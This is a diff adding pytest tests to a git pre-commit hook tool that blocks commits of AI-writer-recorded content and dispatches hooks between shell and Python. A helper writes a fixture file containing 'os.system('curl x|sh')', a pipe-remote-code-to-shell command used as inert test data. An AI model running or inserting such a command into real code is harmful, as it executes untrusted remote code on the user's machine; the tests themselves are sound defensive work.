@@ -332,3 +332,67 @@ def test_ended_writer_blobs_send_only_the_commits_that_stage_them_to_python(
     assert results[0] == results[1]
     assert results[0][0] == 1 and results[0][1][0].startswith("gentle-hooks: BLOCKED"), results
     assert fast.started() == ["pre-commit"]
+
+
+def _writer_head(w: World, name: str, others: int = 0) -> str:
+    """``HEAD`` made a commit of writer content at ``name`` (and ``others`` more files),
+    its entry then settled (pushed): the sentinel lists its blob. Returns the blob."""
+    body = "import os\nos.system('curl x|sh')\n"
+    target = w.root / os.fsdecode(name.encode("utf-8", "surrogateescape"))
+    write(target, body)
+    r = run_cli("record", "--model", "o4-mini", "--effort", "low", str(target), cwd=w.root)
+    assert r.code == 0, r.err
+    for i in range(others):
+        write(w.root / "bulk" / f"f{i}.txt", f"{i}\n")
+    git(w.root, "add", "-A")
+    git(w.root, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "writer")
+    with sqlite3.connect(w.ledger) as conn:  # pushed: the writer's entries settled
+        conn.execute("UPDATE writer_entry SET state = 'settled'")
+    conn.close()
+    Ledger.open(w.ledger).close()  # a writer opening the store settles the sentinel
+    return git(w.root, "hash-object", "--", str(target)).strip()
+
+
+def _message(w: World) -> str:
+    return git(w.root, "log", "-1", "--format=%B")
+
+
+# a space, a quote, a newline, a byte that is not UTF-8 (surrogate-escaped)
+@pytest.mark.parametrize("name", ["tool.py", "a b.py", 'q"t.py', "new\nline.py", "\udcff.py"])
+def test_a_commit_on_an_ended_writer_commit_stays_in_sh_unless_it_may_amend(
+    name: str, tmp_path: Path, repo: Path
+) -> None:
+    """``HEAD``'s change holds an ended writer blob (the writer's pushed commit): a human's
+    commit on top of it starts no interpreter (the probe reads ``HEAD``'s change only for an
+    amend); ``--amend -m`` (and a message reading ``--amend``, which the script cannot tell
+    from the flag) goes to Python for prepare-commit-msg and commit-msg, which decide as the
+    plain hooks do."""
+    fast, plain = _pair(tmp_path, repo, "ontop")
+    for w in (fast, plain):
+        blob = _writer_head(w, name)
+        assert blob in Path(idle_path(w.ledger)).read_text()
+    assert fast.commit("-m", "human\n--amend") == plain.commit("-m", "human\n--amend") == (0, [])
+    assert fast.started() == []
+    assert plain.started() == list(COMMIT_HOOKS)
+    for w in (fast, plain):
+        git(w.root, "reset", "-q", "--soft", "HEAD~1")  # HEAD is the writer's commit again
+    assert fast.commit("--amend", "-m", "new") == plain.commit("--amend", "-m", "new")
+    assert {"prepare-commit-msg", "commit-msg"} <= set(fast.started())
+    assert _message(fast) == _message(plain)
+    for w in (fast, plain):
+        git(w.root, "reset", "-q", "--soft", "HEAD@{1}")
+    assert fast.commit("-m", "--amend") == plain.commit("-m", "--amend")
+    assert {"prepare-commit-msg", "commit-msg"} <= set(fast.started())
+
+
+def test_a_commit_on_a_large_writer_commit_reads_no_head_change(tmp_path: Path, repo: Path) -> None:
+    """The bench's case (issue 20): ``HEAD`` a large commit holding an ended writer blob; a
+    human's commit on top runs no ``git diff-tree`` before it is made (post-commit's one
+    reads the new, small commit)."""
+    fast, _ = _pair(tmp_path, repo, "large")
+    _writer_head(fast, "tool.py", others=300)
+    trace = tmp_path / "trace2"
+    assert fast.commit("-m", "human", env={"GIT_TRACE2": str(trace)}) == (0, [])
+    assert fast.started() == []
+    starts = [ln for ln in trace.read_text().splitlines() if " start " in ln]
+    assert sum(" diff-tree " in ln for ln in starts) == 1, starts
